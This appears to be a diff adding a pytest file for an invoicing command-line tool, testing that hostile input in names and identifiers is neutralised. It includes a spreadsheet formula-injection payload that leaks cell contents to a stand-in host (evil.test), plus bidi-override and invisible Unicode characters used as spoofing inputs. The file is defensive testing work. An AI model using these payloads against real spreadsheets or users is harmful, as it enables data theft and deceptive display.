@@ -1,0 +1,139 @@
+"""The sixth adversarial run (issue 19): what a careless or hostile user types never corrupts the
+store, never shows an internal error, and never runs or hides itself where it is shown again (a
+spreadsheet, a terminal, a PDF page). Each refusal is one `error:` line, its exit code and the
+store unchanged, on both backends where a store is involved.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from cli_support import (
+    IN_FORCE,
+    copied,
+    given,
+    ok,
+    refused,
+    run,
+    snapshot,
+    use_database,
+)
+
+KEYED = {"TRATOS_KEY_PASSPHRASE": "s3cret passphrase"}
+HISTORY = IN_FORCE + [
+    ("invoice", "issue", "acme", "--installment", "1", "--on", "2026-01-15"),        # F-2026-001
+]
+_recorded: set[str] = set()
+
+
+def template(module_store, backend: str):
+    """acme in force with a signing key and one invoice: once per backend."""
+    spec = module_store(backend, "hostile-sixth-run")
+    if backend not in _recorded:
+        with use_database(Path(spec.home), spec.database_url) as home:
+            ok(home, *HISTORY[0], env=KEYED)
+            given(home, HISTORY[1:])
+        _recorded.add(backend)
+    return spec
+
+
+@pytest.fixture
+def acme(module_store, store) -> Iterator[Path]:
+    """The template's private copy per test and backend."""
+    with copied(template(module_store, store.backend), store) as home:
+        yield home
+
+
+def accepted(home: Path, *args: str, env: dict | None = None) -> str:
+    """Run a command that must succeed with exactly one `warning:` line; return that line."""
+    outcome = run(home, *args, env=env)
+    assert outcome.code == 0, outcome.stderr
+    assert len(outcome.stderr_lines) == 1 and outcome.stderr.startswith("warning: "), outcome.stderr
+    return outcome.stderr
+
+
+# ------------------------------------------------------------- 3: formulas in the book of invoices
+
+FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
+
+
+def test_a_name_like_a_formula_is_text_in_the_book_of_invoices(acme: Path, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    ok(acme, "client", "update", "acme", "--name", FORMULA, "--on", "2026-03-01")
+    ok(acme, "invoice", "issue", "acme", "--amount", "10EUR", "--on", "2026-03-02")
+    ok(acme, "invoice", "book", "--year", "2026", "-o", str(tmp_path / "b.xlsx"))
+    sheet = load_workbook(tmp_path / "b.xlsx").active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+    ok(acme, "invoice", "book", "--year", "2026", "-o", str(tmp_path / "b.csv"))
+    text = (tmp_path / "b.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'" + FORMULA in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [cell for cell in cells if cell[:1] == "-" and not cell[1:2].isdigit()]  # -10,00 is an amount
+
+
+# ------------------------------------------------- 20: every error line escaped in one place
+
+TYPED_IDS = [
+    ("payment", "record", "acme", "F\u202e100-6202-F", "1EUR"),
+    ("change", "approve", "acme", "C\u200b1"),
+    ("mistake", "ack", "acme", "M\u20661"),
+    ("contract", "sign", "acme", "--contract", "K\u202e1", "--by", "us"),
+]
+
+
+@pytest.mark.parametrize("args", TYPED_IDS, ids=["invoice", "change", "mistake", "contract"])
+def test_an_error_line_never_carries_an_invisible_or_reordering_character(acme: Path, args) -> None:
+    outcome = run(acme, *args)
+    assert outcome.code != 0 and len(outcome.stderr_lines) == 1 and outcome.stderr.startswith("error: ")
+    hidden = next(char for char in "".join(args) if not char.isascii())
+    assert hidden not in outcome.stderr
+    assert f"\\u{ord(hidden):04x}" in outcome.stderr, outcome.stderr
+
+
+def test_the_stderr_printer_escapes_the_whole_line(capsys: pytest.CaptureFixture[str]) -> None:
+    from cli.output import say, warn
+
+    say("error: acme has no invoice F\u202e100-6202-F\u3164 (it has\nF-2026-001)")
+    warn("hours of 'x\u200b'")
+    lines = capsys.readouterr().err.splitlines()
+    assert lines == ["error: acme has no invoice F\\u202e100-6202-F\\u3164 (it has F-2026-001)",
+                     "warning: hours of 'x\\u200b'"]
+
+
+# ------------------------------------------------- 19: characters that draw nothing, in names
+
+BLANK = ["\u3164", "\u115f", "\u1160", "\uffa0", "\u2800", "\ufffc", "\u17b4", "\u17b5", "\u034f",
+         "Acme\ufe0f", "Acme\U000e0100", "\u0301\u0301", "A\u034fcme"]
+
+
+@pytest.mark.parametrize("name", BLANK, ids=[name.encode("unicode_escape").decode() for name in BLANK])
+def test_a_name_that_draws_nothing_or_hides_is_refused(acme: Path, name: str) -> None:
+    says = "starts with a combining mark" if name[0] == "\u0301" else "contains an invisible"
+    refused(acme, ("client", "open", "v", "--name", name), 2, says)
+
+
+@pytest.mark.parametrize("name", ["Caf\u00e9 \u2764\ufe0f", "\u845b\U000e0100 SL", "Cafe\u0301"])
+def test_selectors_and_marks_where_they_spell_are_kept(acme: Path, name: str) -> None:
+    ok(acme, "client", "open", "v", "--name", name)
+
+
+def test_a_filler_recorded_before_the_policy_still_imports() -> None:
+    """Re-deciding (import) reads what a tratos before ADR-H7 recorded: not refused for a filler."""
+    from domain.model.errors import BadInput
+    from domain.model.values import Party, check_text, texts_as_recorded, texts_of_the_first_policy
+
+    with pytest.raises(BadInput):
+        check_text("\u3164", "name")
+    with texts_of_the_first_policy():
+        assert Party(name="Acme\ufe0f \u3164").name == "Acme\ufe0f \u3164"
+    with texts_as_recorded():
+        assert check_text("\u3164x", "name") == "\u3164x"
